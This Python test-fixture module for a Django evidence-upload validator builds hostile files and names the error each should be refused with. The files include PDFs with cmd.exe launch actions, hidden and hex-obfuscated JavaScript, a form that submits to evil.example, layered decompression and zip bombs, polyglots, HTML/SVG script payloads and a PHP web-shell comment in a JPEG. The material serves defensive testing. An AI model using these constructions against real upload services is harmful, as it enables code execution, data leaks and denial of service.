"""Files that people hand in as evidence, honest and hostile."""

import zipfile
import zlib
from base64 import a85encode
from collections.abc import Callable
from functools import cache, partial
from io import BytesIO

from django.core.files.base import ContentFile
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from catalogue.claims.evidence.exceptions import (
    EvidenceActive,
    EvidenceBroken,
    EvidenceLocked,
    EvidenceOfUnknownKind,
    EvidenceRefused,
    EvidenceTooDense,
    EvidenceTooHeavy,
    EvidenceTooLarge,
    EvidenceTooLong,
)
from tests.media.hostile import png, saved

Upload = ContentFile


def pdf(pages: int = 1, *, change: object = None, password: str | None = None) -> bytes:
    """A PDF of blank pages; `change(writer)` adds to it."""
    writer = PdfWriter()
    for _number in range(pages):
        writer.add_blank_page(width=200, height=200)
    if callable(change):
        change(writer)
    if password is not None:
        writer.encrypt(user_password=password, owner_password="kantor", algorithm="AES-256")
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def upload(data: bytes, name: str = "sertifikat.pdf") -> Upload:
    return ContentFile(data, name=name)


def _catalog(writer: PdfWriter, key: str, value: object) -> None:
    writer.root_object[NameObject(key)] = value


def action(kind: str, **more: object) -> DictionaryObject:
    pairs = {NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in more.items()}}
    return DictionaryObject(pairs)


def with_launch(writer: PdfWriter) -> None:
    _catalog(writer, "/OpenAction", action("/Launch", F=TextStringObject("cmd.exe")))


def with_launch_by_reference(writer: PdfWriter) -> None:
    """What the action does is an object of its own."""
    launch = action("/Launch", F=TextStringObject("cmd.exe"))
    launch[NameObject("/S")] = writer._add_object(NameObject("/Launch"))
    _catalog(writer, "/OpenAction", launch)


def with_form_script(writer: PdfWriter) -> None:
    _catalog(writer, "/AA", DictionaryObject())


def with_hidden_script(writer: PdfWriter) -> None:
    """An object that no page leads to, with its name written in hexadecimal."""
    writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(1)")))


def with_film(writer: PdfWriter) -> None:
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject(
        [DictionaryObject({NameObject("/Subtype"): NameObject("/Screen")})]
    )


def with_bomb(writer: PdfWriter) -> None:
    stream = StreamObject()
    stream._data = nothing()
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer._add_object(stream)


def with_bomb_by_reference(writer: PdfWriter) -> None:
    """How the stream is packed is said elsewhere."""
    stream = StreamObject()
    stream._data = nothing()
    stream[NameObject("/Filter")] = writer._add_object(NameObject("/FlateDecode"))
    writer._add_object(stream)


def b85(data: bytes) -> bytes:
    """As `/ASCII85Decode` reads it."""
    return a85encode(data) + b"~>"


def packed(data: bytes, *filters: str) -> bytes:
    """A PDF with this stream, packed already, under these filters."""

    def add(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream._data = data
        stream[NameObject("/Filter")] = ArrayObject(map(NameObject, filters))
        writer._add_object(stream)

    return pdf(change=add)


def with_link(address: str) -> bytes:
    """A PDF with a link to this address."""

    def add(writer: PdfWriter) -> None:
        link = action("/URI", URI=TextStringObject(address))
        fields = {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): link}
        writer.pages[0][NameObject("/Annots")] = ArrayObject([DictionaryObject(fields)])

    return pdf(change=add)


@cache
def nothing() -> bytes:
    """Three hundred megabytes of it, packed."""
    return zlib.compress(bytes(300 << 20), 9)


def endless_streams() -> bytes:
    """Each stream says that it is short and has no end, so a reader looks for it in all that follows."""
    streams = b"".join(b"%d 0 obj\n<< /Length 1 >>\nstream\n%b\n" % (n, b"x" * 400) for n in range(9, 9_000))
    return pdf().replace(b"xref\n", streams + b"xref\n", 1).replace(b"startxref", b"startxref\n0\n%")


def with_attachment(writer: PdfWriter) -> None:
    writer.add_attachment("rahasia.exe", b"MZ")


def with_script(writer: PdfWriter) -> None:
    script = action("/JavaScript", JS=TextStringObject("app.alert('x')"))
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    _catalog(writer, "/Names", DictionaryObject({NameObject("/JavaScript"): names}))


def zip_behind(data: bytes) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return data + buffer.getvalue()


def hex_named(data: bytes) -> bytes:
    """The same PDF with `/JavaScript` written as PDF also allows."""
    return data.replace(b"/JavaScript", b"/#4AavaScript").replace(b"/JS", b"/#4AS")


def with_remote_form(writer: PdfWriter) -> None:
    page = writer.pages[0]
    target = action("/SubmitForm", F=TextStringObject("http://evil.example/"))
    page[NameObject("/Annots")] = ArrayObject(
        [DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): target})]
    )


def gifar() -> bytes:
    """A GIF that is a Java archive as well."""
    return zip_behind(saved("GIF"))


def archive_of_archives() -> bytes:
    """Ten megabytes of nothing, packed, ten times over, packed again: called a PDF."""
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("nol", bytes(10 << 20))
    outer = BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10):
            archive.writestr(f"{number}.zip", inner.getvalue())
    return outer.getvalue()


#: Makers, for some take a second.
HOSTILE: dict[str, Callable[[], bytes]] = {
    "script": partial(pdf, change=with_script),
    "launch": partial(pdf, change=with_launch),
    "launch by reference": partial(pdf, change=with_launch_by_reference),
    "additional actions": partial(pdf, change=with_form_script),
    "orphaned script": partial(pdf, change=with_hidden_script),
    "names in hexadecimal": lambda: hex_named(pdf(change=with_hidden_script)),
    "form that is sent": partial(pdf, change=with_remote_form),
    "film": partial(pdf, change=with_film),
    "attachment": partial(pdf, change=with_attachment),
    "zip behind": lambda: zip_behind(pdf()),
    "html behind": lambda: pdf() + b"\n<script>alert(1)</script>",
    "html before": lambda: b"%PDF-1.4 <html><script>alert(1)</script>" + pdf(),
    "html that becomes a pdf": lambda: b"<html><script>alert(1)</script>" + pdf(),
    "gif with an archive": gifar,
    "archive of archives": archive_of_archives,
    "picture of four gigapixels": lambda: png(65_000, 65_000),
    "bomb": partial(pdf, change=with_bomb),
    "bomb by reference": partial(pdf, change=with_bomb_by_reference),
    "bomb in a bomb": lambda: packed(zlib.compress(nothing(), 9), "/FlateDecode", "/FlateDecode"),
    "bomb in letters": lambda: packed(b85(nothing()), "/ASCII85Decode", "/FlateDecode"),
    "bomb in digits": lambda: packed(nothing().hex().encode() + b">", "/AHx", "/Fl"),
    "bomb of runs": lambda: packed(b"\x81\0" * (3 << 20) + b"\x80", "/RunLengthDecode"),
    "layers": lambda: packed(b"00" * 9 + b">", "/ASCIIHexDecode", "/ASCIIHexDecode", "/ASCIIHexDecode"),
    "link to a program": lambda: with_link("java\nScript:app.alert(1)"),
    "password": lambda: pdf(password="rahasia"),
    "too many pages": lambda: pdf(61),
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": lambda: b"<!doctype html><script>alert(1)</script>",
    "zip": lambda: zip_behind(b""),
    "text": lambda: b"bukan dokumen",
    "nothing": lambda: b"",
    "broken pdf": lambda: b"%PDF-1.7\n" + b"0 obj <<" * 2000 + b"%%EOF",
    "cut off": lambda: pdf()[:300],
    "eleven megabytes": lambda: pdf() + bytes(11 << 20),
}

#: The error that each of them is refused with.
VERDICTS: dict[str, type[EvidenceRefused]] = {
    **dict.fromkeys(["script", "launch", "additional actions", "orphaned script"], EvidenceActive),
    "launch by reference": EvidenceActive,
    **dict.fromkeys(["names in hexadecimal", "form that is sent", "film", "attachment"], EvidenceActive),
    **dict.fromkeys(["zip behind", "html behind", "html before"], EvidenceActive),
    **dict.fromkeys(["svg", "html", "html that becomes a pdf", "zip", "text"], EvidenceOfUnknownKind),
    **dict.fromkeys(["gif with an archive", "archive of archives", "nothing"], EvidenceOfUnknownKind),
    **dict.fromkeys(["broken pdf", "cut off"], EvidenceBroken),
    "picture of four gigapixels": EvidenceTooLarge,
    **dict.fromkeys(["bomb", "bomb by reference", "bomb in a bomb", "bomb in letters"], EvidenceTooDense),
    **dict.fromkeys(["bomb in digits", "bomb of runs", "layers"], EvidenceTooDense),
    "link to a program": EvidenceActive,
    "password": EvidenceLocked,
    "too many pages": EvidenceTooLong,
    "eleven megabytes": EvidenceTooHeavy,
}

#: What is taken, whatever it is called and whatever hides behind it: its type, and what must be gone.
TAKEN: dict[str, tuple[bytes, str, str, bytes]] = {
    "pdf called jpg": (pdf(), "foto.jpg", "application/pdf", b""),
    "pdf with a link": (with_link("https://ptsp.halal.go.id/"), "izin.pdf", "application/pdf", b""),
    "pdf with a picture in letters": (
        packed(b85(zlib.compress(bytes(9_000))), "/ASCII85Decode", "/FlateDecode"),
        "pindaian.pdf",
        "application/pdf",
        b"",
    ),
    "pdf of runs": (packed(b"\x81\0\x80", "/RL"), "pindaian.pdf", "application/pdf", b""),
    "pdf locked against change": (pdf(password=""), "izin.pdf", "application/pdf", b""),
    "png called pdf": (saved("PNG"), "sertifikat.pdf", "image/png", b""),
    "jpeg called html": (saved("JPEG"), "foto.html", "image/jpeg", b""),
    "jpeg called svg": (saved("JPEG"), "foto.svg", "image/jpeg", b""),
    "jpeg with an archive behind": (zip_behind(saved("JPEG")), "foto.jpg", "image/jpeg", b"evil.html"),
    "jpeg with a page behind": (
        saved("JPEG") + b"<script>alert(1)</script>",
        "foto.jpg",
        "image/jpeg",
        b"<script>",
    ),
    "jpeg with a pdf behind": (saved("JPEG") + pdf(), "foto.jpg", "image/jpeg", b"%PDF"),
    "jpeg with a script in its comment": (
        saved("JPEG", comment=b"<?php system($_GET[0]); ?>"),
        "foto.php.jpg",
        "image/jpeg",
        b"<?php",
    ),
}
